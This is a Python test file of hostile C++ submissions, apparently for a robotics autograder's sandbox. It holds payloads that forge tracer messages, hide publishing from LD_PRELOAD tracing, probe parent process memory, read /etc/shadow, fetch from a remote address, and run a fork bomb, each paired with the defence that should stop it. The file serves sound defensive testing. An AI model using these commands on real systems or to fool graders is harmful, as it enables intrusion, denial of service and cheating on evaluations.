"""Hostile submissions in C++: what needs no interpreter, or gets by the tracer in another way."""

from __future__ import annotations

from typing import Any

from tests.attacks.attack import ALIVE, HOLDER, Attack
from tests.attacks.submissions import compiled_node

_DEAF = "for (int number : {SIGINT, SIGTERM, SIGHUP}) {signal(number, SIG_IGN);}\n"
_ENDLESS = f"""{_DEAF}
volatile bool forever = true;
std::thread([&] {{while (forever) {{}}}}).detach();
while (forever) {{
}}
"""
_FORGED = """\
dprintf(atoi(getenv("ROSGRADE_TRACER_FD")), "{\\"kind\\": \\"points\\", \\"pid\\": 1}\\n");
"""
_TIMER = 'create_wall_timer(100, [this] {tick();}, "BotPublisher::tick()");'
_FORGED_TIMER = """\
dprintf(
  atoi(getenv("ROSGRADE_TRACER_FD")),
  "{\\"kind\\": \\"timer\\", \\"pid\\": %d, \\"period_s\\": 0.1, \\"callback\\": \\"tick\\"}\\n",
  getpid());
std::thread(
  [this] {
    while (!interrupted) {
      tick();
      usleep(100000);
    }
  }).detach();
"""
# A timer that does nothing, beside a thread that publishes past the tracer.
_BESIDE = """\
create_wall_timer(100, [] {}, "BotPublisher::tick()");
std::thread(
  [this] {
    while (!interrupted) {
      tick();
      usleep(100000);
    }
  }).detach();
"""
_PUBLISH = "rcl_publish(publisher, &message, nullptr)"
_HIDDEN_PUBLISH = """\
#include <dlfcn.h>
#include <rcl/publisher.h>

inline decltype(&rcl_publish) hidden_publish()
{
  return reinterpret_cast<decltype(&rcl_publish)>(
    dlsym(dlopen("librcl.so", RTLD_NOW | RTLD_NOLOAD), "rcl_publish"));
}
"""
_OWN_PUBLISH = (
    _HIDDEN_PUBLISH
    + """
extern "C" __attribute__((visibility("default"))) rcl_ret_t rcl_publish(
  const rcl_publisher_t * publisher, const void * message, rmw_publisher_allocation_t * allocation)
{
  return hidden_publish()(publisher, message, allocation);
}
"""
)
# The library of the tracer comes first, and may stand alone.
_ANEW = """\
if (getenv("ANEW") == nullptr) {
  setenv("ANEW", "", 1);
  const std::string preloaded = getenv("LD_PRELOAD");
  const size_t tracer = preloaded.find(':');
  setenv("LD_PRELOAD", tracer == preloaded.npos ? "" : &preloaded[tracer + 1], 1);
  execv("/proc/self/exe", argv);
}
"""
_SCRIPT = """\
#!/bin/sh
LD_PRELOAD=${LD_PRELOAD#*:} exec "$0.hidden" "$@"
"""
_INSTALL_SCRIPT = """\
install(PROGRAMS start.sh DESTINATION lib/${PROJECT_NAME} RENAME bot_pub)
cmake_language(DEFER CALL set_target_properties bot_pub PROPERTIES OUTPUT_NAME bot_pub.hidden)
"""
_DEEP = """\
#include <dlfcn.h>
#include <rcl/publisher.h>
#include <tracetools/tracetools.h>

template<class Function>
Function * hidden(const char * name)
{
  return reinterpret_cast<Function *>(
    dlsym(dlopen("librcl.so", RTLD_NOW | RTLD_DEEPBIND), name));
}

#define rcl_publisher_init hidden<decltype(rcl_publisher_init)>("rcl_publisher_init")
"""
_PROBE = """\
const pid_t parent = getppid();
const std::string folder = "/proc/" + std::to_string(parent);
for (const char * file : {"/mem", "/environ", "/fd/3"}) {
  fprintf(stderr, "%s: %s\\n", file, open((folder + file).c_str(), O_RDWR) < 0 ? "no" : "opened");
}
process_vm_writev(parent, nullptr, 0, nullptr, 0, 0);
"""
_COMMANDS = """\
execute_process(COMMAND touch /etc/planted RESULT_VARIABLE unwritten)
execute_process(COMMAND cat /etc/shadow RESULT_VARIABLE unread)
file(DOWNLOAD http://192.0.2.1/ ${CMAKE_BINARY_DIR}/got STATUS status TIMEOUT 5)
list(GET status 0 unreached)
if(unwritten AND unread AND unreached)
  message(FATAL_ERROR "nothing was reached")
endif()
"""


def compiled(attack: str = "", **more: Any) -> Attack:
    """A submission in C++."""
    return Attack(attack, compiled=True, **more)


def ended(attack: str, *named: str) -> Attack:
    """One that ends the node, or for which it is ended."""
    return compiled(attack, lost=ALIVE, named=named)


def unbuilt(*named: str, **more: Any) -> Attack:
    """One that keeps the package from being built."""
    return compiled(lost=frozenset({"builds"}), named=named, **more)


def beside(before: str, publish: str = _PUBLISH) -> Attack:
    """One that publishes in a thread beside a timer, in a way that the tracer does not see."""
    source = compiled_node().replace(_TIMER, _BESIDE).replace(_PUBLISH, publish)
    return compiled(
        files={"src/bot_pub.cpp": source, "src/before.hpp": before},
        lost=frozenset({"timer"}),
        named=("outside of every callback",),
    )


def unseen(**more: Any) -> Attack:
    """One that hides its publisher from the tracer."""
    named = ("the process did not declare the publisher",)
    return compiled(lost=frozenset({"timer"}), named=named, **more)


RIGHT = compiled()
COMPILED = {
    "cpp_endless_loop": ended(_ENDLESS, "s of CPU time, 3 s are allowed"),
    "cpp_attacks_the_probe": ended(
        _PROBE,
        *("/mem: no", "/environ: no", "/fd/3: no"),
        f"called `process_vm_writev` on {HOLDER}",
    ),
    "cpp_forged_tracer": ended(_FORGED, "wrote into the channel"),
    "cpp_declares_a_timer_beside_a_thread": compiled(
        files={"src/bot_pub.cpp": compiled_node().replace(_TIMER, _FORGED_TIMER)},
        lost=frozenset({"timer"}),
        named=("outside of every callback",),
    ),
    "cpp_publishes_past_the_tracer": beside(
        _HIDDEN_PUBLISH, _PUBLISH.replace("rcl_publish", "hidden_publish()")
    ),
    "cpp_exports_a_publish_of_its_own": beside(_OWN_PUBLISH),
    "cpp_closes_all_descriptors": unseen(at_import="close_range(3, ~0U, 0);"),
    "cpp_starts_anew_without_the_tracer": unseen(at_import=_ANEW),
    "cpp_is_started_by_a_script": unseen(at_build=_INSTALL_SCRIPT, files={"start.sh": _SCRIPT}),
    "cpp_calls_rcl_past_the_tracer": unseen(files={"src/before.hpp": _DEEP}),
    "cpp_build_runs_commands": unbuilt("nothing was reached", at_build=_COMMANDS),
    "cpp_build_fork_bomb": unbuilt(
        "it started 64 processes",
        at_build="execute_process(COMMAND sh -c [[b() { b & b & exec sleep 99; }; b]])",
    ),
    "cpp_build_memory": unbuilt("memory", files={"src/before.hpp": '#include "/dev/zero"'}),
    "cpp_build_disk": unbuilt(
        "File size limit exceeded",
        files={"src/before.hpp": "static char wide[1 << 30] = {1};\nchar * used = wide;"},
    ),
}
